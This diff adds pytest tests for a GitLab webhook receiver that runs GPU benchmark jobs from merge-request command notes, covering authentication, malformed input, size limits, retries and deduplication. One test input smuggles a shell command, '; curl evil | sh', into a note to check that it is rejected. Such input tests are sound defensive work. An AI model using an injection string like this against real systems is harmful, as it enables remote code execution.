@@ -1,0 +1,366 @@
+# Copyright (c) 2026, the mrbot authors.
+# SPDX-License-Identifier: MIT
+"""`mrbot webhook` over HTTP on loopback against the fake GitLab: which notes run a GPU job, once each, and what every
+other delivery is answered, GitLab failing or not."""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from mrbot.ci import receiver
+from mrbot.ci.receiver import MAX_BODY, PATH
+from mrbot.cli import main
+from tests.mrbot.ci.receiver_load import run_load
+from tests.mrbot.ci.serving import (
+    BOT_ID,
+    SECRET,
+    deliver,
+    eventually,
+    note_event,
+    raw_exchange,
+    serving,
+    settings,
+)
+from tests.mrbot.forges.fakeforge import RESET, FakeGitLab
+
+ON_HOPPER = '/bench chunk_kda --on hopper'
+
+
+@pytest.fixture
+def gitlab() -> Iterator[FakeGitLab]:
+    """A merge request (!1) whose head has a merge request pipeline with a manual job for each GPU class, and alice,
+    a Developer."""
+    with FakeGitLab() as server:
+        server.open_merge_request('feature')
+        server.start_pipeline(1)
+        server.members['alice'] = 30
+        yield server
+
+
+def _jobs(gitlab: FakeGitLab, pipeline: int) -> dict[str, int]:
+    return {gitlab.pipeline_jobs[job]['name']: job for job in gitlab.pipelines[pipeline]['jobs']}
+
+
+def _played(gitlab: FakeGitLab) -> list[tuple[int, str]]:
+    """(job, the note it was run for) of each job run, in order."""
+    return [(job, variables['MRBOT_COMMAND_NOTE']) for job, variables, _ in gitlab.plays]
+
+
+def test_a_command_note_runs_the_manual_job_of_the_class_it_names_with_the_note(gitlab, tmp_path):
+    note = gitlab.add_note(1, ON_HOPPER)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        answer = deliver(served.port, note_event(note, ON_HOPPER))
+        assert (answer.status, answer.text) == (202, f'accepted: note {note}\n')
+        eventually(lambda: gitlab.plays, 'the job to run')
+        eventually(lambda: served.note_state(note)[0] == 'played', 'the note to be settled')
+    # the job reads the note back, as the token's user runs it: who asked is GitLab's record, not a variable
+    hopper = _jobs(gitlab, 100)['mrbot-bench-hopper']
+    assert gitlab.plays == [(hopper, {'MRBOT_COMMAND_NOTE': str(note)}, 'project_7_bot')]
+
+
+def test_a_note_naming_no_class_runs_every_gpu_job_and_each_job_decides(gitlab, tmp_path):
+    note = gitlab.add_note(1, '/test tests/ops')
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        assert deliver(served.port, note_event(note, '/test tests/ops')).status == 202
+        eventually(lambda: len(gitlab.plays) == 2, 'both jobs to run')
+    assert sorted(_played(gitlab)) == sorted((job, str(note)) for job in _jobs(gitlab, 100).values())
+
+
+def test_a_job_that_ran_already_is_run_again_in_a_new_pipeline_of_the_head(gitlab, tmp_path):
+    first, second = gitlab.add_note(1, ON_HOPPER), gitlab.add_note(1, ON_HOPPER)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        deliver(served.port, note_event(first, ON_HOPPER))
+        eventually(lambda: len(gitlab.plays) == 1, 'the first note to run')
+        deliver(served.port, note_event(second, ON_HOPPER))
+        eventually(lambda: len(gitlab.plays) == 2, 'the second note to run')
+    # GitLab's new pipeline makes its jobs before they wait to be run; the receiver waited, and made one pipeline
+    assert list(gitlab.pipelines) == [100, 101]
+    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(first)),
+                               (_jobs(gitlab, 101)['mrbot-bench-hopper'], str(second))]
+
+
+@pytest.mark.parametrize('token', [None, '', 'a-webhook-secret-of-some-lengtH', SECRET + 'x', SECRET[:-1]])
+def test_a_delivery_without_the_secret_is_refused_and_kept_nowhere(gitlab, tmp_path, token):
+    note = gitlab.add_note(1, ON_HOPPER)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        answer = deliver(served.port, note_event(note, ON_HOPPER), token=token)
+        assert (answer.status, answer.text) == (401, "unauthorized: X-Gitlab-Token is not this webhook's secret token\n")
+        assert served.note_state(note) is None
+        # GitLab's own delivery of the same note afterwards is a new one, not a duplicate
+        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
+
+
+@pytest.mark.parametrize(('body', 'message'), [
+    (b'{"object_attributes": ', 'the delivery: not JSON'),
+    (b'\xff\xfe{}', 'the delivery: not UTF-8 text'),
+    (b'[' * 100_000, 'the delivery: not JSON'),
+    (b'[{"object_attributes": {}}]', 'the delivery: expected a JSON object (a GitLab note event), got a list'),
+    (b'{}', 'the delivery: object_attributes: missing, expected an object'),
+    (b'{"object_attributes": {"id": "12"}}', 'the delivery: object_attributes.id: expected a whole number, got the '
+                                             'string "12"'),
+    (b'{"object_attributes": {"id": -3}}', 'the delivery: object_attributes.id: expected the id of a note, got -3'),
+    (b'{"object_attributes": {"id": 3}, "project": {"path_with_namespace": ["lab"]}}',
+     'the delivery: project.path_with_namespace: expected a string, got a list'),
+])
+def test_a_body_that_is_no_note_event_is_400_in_one_line(gitlab, tmp_path, body, message):
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        answer = deliver(served.port, body)
+    assert answer.status == 400 and answer.text.startswith(f'malformed: {message}')
+    assert answer.text.count('\n') == 1 and len(answer.text) < 400
+
+
+def test_a_body_over_the_limit_is_413_whether_it_says_its_length_or_not(gitlab, tmp_path):
+    head = f'POST {PATH} HTTP/1.1\r\nHost: x\r\nX-Gitlab-Token: {SECRET}\r\nX-Gitlab-Event: Note Hook\r\n'
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        # a length over the limit is answered before any of the body is read, none is sent here, and the connection
+        # is closed rather than kept by reading the rest
+        declared = raw_exchange(served.port, f'{head}Content-Length: {MAX_BODY + 1}\r\n\r\n'.encode(), [])
+        # chunks of no declared length are read up to the limit and no further: the limit and one byte are sent, and
+        # the answer comes before the last chunk
+        chunks = [b'10000\r\n' + b' ' * 0x10000 + b'\r\n'] * (MAX_BODY // 0x10000) + [b'1\r\n{\r\n']
+        chunked = raw_exchange(served.port, f'{head}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n'.encode(),
+                               chunks)
+        # a delivery at the limit is read
+        assert deliver(served.port, b'{}' + b' ' * (MAX_BODY - 2)).status == 400
+    for answer in (declared, chunked):
+        assert answer.startswith(b'HTTP/1.1 413 ') and answer.endswith(b'too large: a delivery is read up to 1048576 '
+                                                                         b'bytes\n')
+
+
+def test_a_delivery_without_the_secret_is_answered_without_reading_its_body(gitlab, tmp_path):
+    head = f'POST {PATH} HTTP/1.1\r\nHost: x\r\nX-Gitlab-Token: not-it\r\nContent-Length: {100 * MAX_BODY}\r\n\r\n'
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        answer = raw_exchange(served.port, head.encode(), [])
+    assert answer.startswith(b'HTTP/1.1 401 ') and b'connection: close' in answer.lower()
+
+
+def test_another_method_or_path_is_refused(gitlab, tmp_path):
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        assert deliver(served.port, b'', method='GET').status == 405
+        assert deliver(served.port, b'{}', path='/').status == 404
+        assert deliver(served.port, b'{}', path=PATH + '/x', token=None).status == 404
+
+
+@pytest.mark.parametrize(('event', 'changes', 'reason'), [
+    ('Push Hook', {}, 'event'),
+    # an internal note; nothing is read from those
+    ('Confidential Note Hook', {}, 'event'),
+    ('Note Hook', {'action': 'update'}, 'edit'),
+    ('Note Hook', {'state': 'closed'}, 'not-open'),
+    ('Note Hook', {'state': 'merged'}, 'not-open'),
+    ('Note Hook', {'noteable': 'Issue'}, 'not-merge-request'),
+    ('Note Hook', {'text': 'Looks good, /bench it please'}, 'not-command'),
+    ('Note Hook', {'text': '/mrbot help'}, 'not-command'),
+    ('Note Hook', {'text': '/bench --on hopper; curl evil | sh'}, 'malformed'),
+    ('Note Hook', {'project': 'lab/kernels/other'}, 'project'),
+])
+def test_anything_but_a_new_command_note_on_an_open_merge_request_is_ignored_with_its_reason(
+        gitlab, tmp_path, event, changes, reason):
+    text = changes.pop('text', ON_HOPPER)
+    note = gitlab.add_note(1, text)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        answer = deliver(served.port, note_event(note, text, **changes), event=event)
+        assert (answer.status, answer.text) == (200, f'ignored: {reason}\n')
+        assert served.note_state(note) is None
+    assert gitlab.plays == [] and gitlab.requests == []
+
+
+@pytest.mark.parametrize(('author', 'author_id', 'outcome'), [
+    ('project_7_bot', BOT_ID, "the bot's own note"),
+    ('mallory', 66, 'mallory has none access, below Developer'),
+    ('reader', 3, 'reader has read access, below Developer'),
+])
+def test_the_bots_own_note_and_those_of_users_below_developer_run_nothing(gitlab, tmp_path, author, author_id, outcome):
+    gitlab.members['reader'] = 20
+    note = gitlab.add_note(1, ON_HOPPER, author=author)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        assert deliver(served.port, note_event(note, ON_HOPPER, author=author, author_id=author_id)).status == 202
+        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
+        assert served.note_state(note) == ('dropped', outcome)
+    assert gitlab.plays == [] and gitlab.notes_on(1) == [(author, ON_HOPPER)]
+
+
+def test_a_duplicate_delivery_runs_the_note_once(gitlab, tmp_path):
+    note = gitlab.add_note(1, ON_HOPPER)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
+        # GitLab's "Resend request", or a replay by whoever saw the delivery, while the first is being played
+        assert deliver(served.port, note_event(note, ON_HOPPER)).text == 'ignored: duplicate\n'
+        eventually(lambda: served.note_state(note)[0] == 'played', 'the note to be played')
+        assert deliver(served.port, note_event(note, ON_HOPPER)).text == 'ignored: duplicate\n'
+    # and after a restart
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        assert deliver(served.port, note_event(note, ON_HOPPER)).text == 'ignored: duplicate\n'
+    assert len(gitlab.plays) == 1
+
+
+def test_a_gitlab_failing_for_a_while_delays_the_note_and_runs_its_job_once(gitlab, tmp_path):
+    note = gitlab.add_note(1, ON_HOPPER)
+    # the adapter tries each request twice: the first try of the note fails on its first request, the second on the run
+    gitlab.fail('GET', '/merge_requests/1', 503, times=2)
+    gitlab.fail('POST', '/play', 502, times=1)
+    gitlab.fail('POST', '/play', RESET, times=1)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', attempts=4)) as served:
+        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
+        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
+        assert served.note_state(note)[0] == 'played'
+    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]
+    assert gitlab.count('POST', '/play') == 3 and list(gitlab.pipelines) == [100]
+
+
+def test_a_job_whose_run_gitlab_took_but_whose_answer_was_lost_is_not_run_again(gitlab, tmp_path):
+    note = gitlab.add_note(1, ON_HOPPER)
+    # GitLab starts the job and the connection drops before its answer: the adapter's own retry is refused, the job
+    # having run
+    gitlab.fail('POST', '/play', RESET, done=True)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        deliver(served.port, note_event(note, ON_HOPPER))
+        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
+        assert served.note_state(note) == ('played', 'its jobs ran already')
+    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]
+    assert gitlab.count('POST', '/play') == 2 and list(gitlab.pipelines) == [100]
+
+
+def test_a_note_for_two_classes_whose_second_job_gitlab_refuses_runs_the_first_once_and_says_so(gitlab, tmp_path):
+    text = '/bench --on hopper blackwell'
+    note = gitlab.add_note(1, text)
+    jobs = _jobs(gitlab, 100)
+    gitlab.fail('POST', f"/jobs/{jobs['mrbot-bench-blackwell']}/play", 503, times=100)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        deliver(served.port, note_event(note, text))
+        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
+        assert served.note_state(note)[0] == 'answered'
+    # each try asked again only for the job that had not run
+    assert _played(gitlab) == [(jobs['mrbot-bench-hopper'], str(note))]
+    assert gitlab.count('POST', f"/jobs/{jobs['mrbot-bench-hopper']}/play") == 1
+    assert (f"It had asked GitLab to run mrbot-bench-hopper (job {jobs['mrbot-bench-hopper']}), mrbot-bench-blackwell "
+            f"(job {jobs['mrbot-bench-blackwell']}) before that.") in gitlab.notes_on(1)[-1][1]
+
+
+def test_a_note_whose_job_gitlab_keeps_refusing_is_answered_with_why(gitlab, tmp_path):
+    note = gitlab.add_note(1, ON_HOPPER)
+    gitlab.fail('POST', '/play', 503, times=100, message='GitLab is not available')
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        deliver(served.port, note_event(note, ON_HOPPER))
+        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
+        assert served.note_state(note)[0] == 'answered'
+    (author, answer), = gitlab.notes_on(1)[1:]
+    assert author == 'project_7_bot' and gitlab.plays == []
+    assert answer.startswith(f'mrbot could not run the GPU jobs for note {note}: GitLab: running job ')
+    assert 'still failing after 1 retry' in answer and 'give the command again in a new note' in answer
+
+
+def test_a_note_neither_played_nor_answered_stays_pending_and_is_played_after_a_restart(gitlab, tmp_path):
+    note = gitlab.add_note(1, ON_HOPPER)
+    state = tmp_path / 'notes.sqlite3'
+    for method in ('GET', 'POST'):
+        gitlab.fail(method, '', RESET, times=10_000)
+    with serving(gitlab, settings(gitlab, state, attempts=2)) as served:
+        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
+        # the tries are spent and the answer failed too: the note waits for a later try
+        eventually(lambda: served.note_state(note)[1], 'the note to be given up for now')
+        assert served.note_state(note)[0] == 'pending'
+    gitlab.failures.clear()
+    with serving(gitlab, settings(gitlab, state)) as served:
+        eventually(lambda: gitlab.plays, 'the note to be played after the restart')
+        eventually(lambda: served.note_state(note)[0] == 'played', 'the note to be settled')
+    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]
+    assert gitlab.notes_on(1) == [('alice', ON_HOPPER)]
+
+
+def test_a_note_neither_played_nor_answered_for_a_day_is_given_up(gitlab, tmp_path, monkeypatch):
+    monkeypatch.setattr(receiver, 'GIVE_UP_S', -1)
+    note = gitlab.add_note(1, ON_HOPPER)
+    for method in ('GET', 'POST'):
+        gitlab.fail(method, '', 503, times=10_000)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', attempts=2)) as served:
+        deliver(served.port, note_event(note, ON_HOPPER))
+        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be given up')
+        state, outcome = served.note_state(note)
+    assert state == 'dropped' and outcome.startswith('given up a day after it came: GitLab: reading merge request !1')
+    assert gitlab.plays == []
+
+
+def test_a_full_queue_answers_429_and_keeps_nothing_of_what_it_refused(gitlab, tmp_path):
+    notes = [gitlab.add_note(1, ON_HOPPER) for _ in range(3)]
+    released = threading.Event()
+    # the one worker is held in its first request to GitLab until the test lets it go
+    gitlab.after('GET', '/merge_requests/1', released.wait)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', workers=1, queue=1)) as served:
+        assert deliver(served.port, note_event(notes[0], ON_HOPPER)).status == 202
+        eventually(lambda: gitlab.count('GET', '/merge_requests/1'), 'the worker to take the first note')
+        assert deliver(served.port, note_event(notes[1], ON_HOPPER)).status == 202
+        refused = deliver(served.port, note_event(notes[2], ON_HOPPER))
+        assert (refused.status, refused.retry_after) == (429, '30')
+        assert refused.text == 'busy: 1 note waiting already; deliver this one again in 30 s\n'
+        assert served.note_state(notes[2]) is None
+        released.set()
+        eventually(lambda: len(gitlab.plays) == 2, 'the two accepted notes to run')
+        # delivered again, as GitLab's "Resend request" does
+        assert deliver(served.port, note_event(notes[2], ON_HOPPER)).status == 202
+        eventually(lambda: len(gitlab.plays) == 3, 'the third note to run')
+    assert sorted(note for _, note in _played(gitlab)) == sorted(map(str, notes))
+
+
+def test_a_project_of_merged_results_pipelines_is_told_why_its_jobs_cannot_run(gitlab, tmp_path):
+    gitlab.merged_results = True
+    iid = gitlab.open_merge_request('fix/overflow')
+    gitlab.start_pipeline(iid)
+    note = gitlab.add_note(iid, ON_HOPPER)
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        deliver(served.port, note_event(note, ON_HOPPER, iid=iid))
+        eventually(lambda: served.note_state(note)[0] == 'answered', 'the note to be answered')
+    assert gitlab.plays == [] and len(gitlab.pipelines) == 3
+    assert 'the GPU jobs run the head, in merge request pipelines, and this project makes merged-results pipelines' in \
+        gitlab.notes_on(iid)[-1][1]
+
+
+def test_a_class_without_a_job_is_answered_with_the_jobs_there_are(gitlab, tmp_path):
+    note = gitlab.add_note(1, '/bench --on ampere')
+    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
+        deliver(served.port, note_event(note, '/bench --on ampere'))
+        eventually(lambda: served.note_state(note)[0] == 'answered', 'the note to be answered')
+    assert "has no job mrbot-bench-ampere (it has mrbot-bench-hopper, mrbot-bench-blackwell)" in gitlab.notes_on(1)[-1][1]
+    assert gitlab.plays == [] and list(gitlab.pipelines) == [100]
+
+
+@pytest.mark.parametrize(('environ', 'message'), [
+    ({}, 'MRBOT_WEBHOOK_SECRET is not set'),
+    ({'MRBOT_WEBHOOK_SECRET': 'secret'}, 'MRBOT_WEBHOOK_SECRET: expected 16 or more visible ASCII characters'),
+    ({'MRBOT_WEBHOOK_SECRET': SECRET}, "MRBOT_GITLAB_PROJECT '': expected the path of the GitLab project"),
+    ({'MRBOT_WEBHOOK_SECRET': SECRET, 'MRBOT_GITLAB_PROJECT': 'lab/fla'}, 'GITLAB_TOKEN is not set'),
+    ({'MRBOT_WEBHOOK_SECRET': SECRET, 'MRBOT_GITLAB_PROJECT': 'lab/fla', 'GITLAB_TOKEN': 't',
+      'MRBOT_WEBHOOK_PORT': '80000'}, "MRBOT_WEBHOOK_PORT '80000': expected a whole number from 1 to 65535"),
+])
+def test_the_command_refuses_to_start_without_what_it_needs_in_one_line(monkeypatch, capsys, environ, message):
+    for name in ('MRBOT_WEBHOOK_SECRET', 'MRBOT_GITLAB_PROJECT', 'GITLAB_TOKEN', 'MRBOT_WEBHOOK_PORT'):
+        monkeypatch.delenv(name, raising=False)
+    for name, value in environ.items():
+        monkeypatch.setenv(name, value)
+    assert main(['webhook']) == 2
+    err = capsys.readouterr().err
+    assert err.startswith(f'mrbot webhook: error: {message}') and err.count('\n') == 1
+
+
+def test_the_command_refuses_a_state_file_it_cannot_keep_in_one_line(monkeypatch, capsys, tmp_path: Path):
+    state = tmp_path / 'missing' / 'notes.sqlite3'
+    for name, value in {'MRBOT_WEBHOOK_SECRET': SECRET, 'MRBOT_GITLAB_PROJECT': 'lab/fla', 'GITLAB_TOKEN': 't',
+                        'MRBOT_WEBHOOK_STATE': str(state)}.items():
+        monkeypatch.setenv(name, value)
+    assert main(['webhook']) == 2
+    assert capsys.readouterr().err == (f'mrbot webhook: error: {state}: cannot keep the notes there (unable to open '
+                                       'database file); name a writable file\n')
+
+
+def test_a_thousand_deliveries_a_tenth_hostile_run_each_note_once_lose_none_and_leave_memory_flat(tmp_path):
+    figures = run_load(tmp_path)
+    # every command note ran once, those refused as too many included once delivered again; no hostile one ran
+    assert figures.notes == 500 and set(figures.runs_per_note.values()) == {1}
+    assert figures.answers[202] == 500 and figures.answers[200] == 425
+    assert figures.answers[401] == figures.answers[400] == figures.answers[413] == 25
+    # what a leak of the bodies, the queue or the notes would show; the bound leaves room for the allocator and caches
+    assert figures.rss_end_mb - figures.rss_warm_mb < 48
